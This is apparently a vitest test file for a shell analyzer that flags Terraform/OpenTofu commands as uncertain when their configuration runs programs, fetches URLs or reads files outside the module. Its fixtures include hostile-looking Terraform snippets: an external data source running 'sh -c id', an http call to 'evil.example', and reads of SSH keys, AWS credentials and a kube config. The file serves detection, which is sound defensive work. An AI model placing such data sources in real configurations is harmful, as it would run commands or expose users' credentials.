// What `terraform plan` evaluates (terraform-configs.ts, build-configs.ts): every configuration file of the working
// folder and its local modules; a data source that runs a program or fetches a URL, or a file read outside the
// module, is uncertain.
import { beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { listingReader } from '../testdata/listing-reader';
import { shellEnv } from '../testdata/shell-env';

const P = '/home/u/proj';
const MAIN =
  'resource "aws_s3_bucket" "b" {\n  bucket = "x"\n}\nmodule "net" {\n  source = "./modules/net"\n}\nmodule "vpc" {\n  source = "terraform-aws-modules/vpc/aws"\n}\n';
const NET_OK = 'resource "aws_instance" "a" {\n  user_data = file("\u0024{path.module}/init.sh")\n}\n';

const reader = listingReader;
const reasons = (command: string, files: Record<string, string>) =>
  analyzeShellSync(command, shellEnv({ readScript: reader(files) }))
    .uncertain.filter((u) => u.code === 'dynamic-script')
    .map((u) => u.reason);

beforeAll(async () => {
  await loadShellParser();
});

describe('a configuration that runs, fetches or reads beyond its module is uncertain', () => {
  it.each<[string, string, Record<string, string>, RegExp]>([
    [
      'an external data source',
      'terraform plan',
      { [`${P}/main.tf`]: 'data "external" "x" {\n  program = ["sh", "-c", "id"]\n}\n' },
      /external/,
    ],
    [
      'an http data source',
      'terraform plan',
      { [`${P}/main.tf`]: 'data "http" "x" {\n  url = "https://evil.example/?k=1"\n}\n' },
      /http/,
    ],
    [
      'a key read by file()',
      'terraform plan',
      { [`${P}/main.tf`]: 'output "k" {\n  value = file("~/.ssh/id_rsa")\n}\n' },
      /outside the module/,
    ],
    [
      'a path climbing out',
      'terraform plan',
      { [`${P}/main.tf`]: 'locals {\n  k = file("\u0024{path.module}/../../.aws/credentials")\n}\n' },
      /outside the module/,
    ],
    [
      'pathexpand',
      'terraform plan',
      { [`${P}/main.tf`]: 'locals {\n  k = pathexpand("~/.kube/config")\n}\n' },
      /pathexpand/,
    ],
    [
      'in a local module',
      'terraform apply',
      {
        [`${P}/main.tf`]: MAIN,
        [`${P}/modules/net/main.tf`]: 'data "external" "x" {\n  program = ["./x"]\n}\n',
      },
      /external/,
    ],
    [
      'in JSON',
      'tofu plan',
      { [`${P}/main.tf.json`]: '{"data": {"external": {"x": {"program": ["id"]}}}}' },
      /external/,
    ],
    [
      'in the -chdir folder',
      'terraform -chdir=infra plan',
      { [`${P}/infra/main.tf`]: 'data "external" "x" {\n  program = ["id"]\n}\n' },
      /external/,
    ],
  ])('%s', (_n, command, files, why) => {
    expect(reasons(command, files).join(' ')).toMatch(why);
  });
});

describe('an ordinary configuration is quiet', () => {
  it.each<[string, string, Record<string, string>]>([
    [
      'resources, a registry module and a local one reading its own file',
      'terraform plan',
      { [`${P}/main.tf`]: MAIN, [`${P}/modules/net/main.tf`]: NET_OK },
    ],
    [
      'validate evaluates no data source',
      'terraform validate',
      { [`${P}/main.tf`]: 'data "external" "x" {\n  program = ["id"]\n}\n' },
    ],
    ['no configuration', 'terraform plan', {}],
  ])('%s', (_n, command, files) => {
    expect(reasons(command, files)).toEqual([]);
  });
});
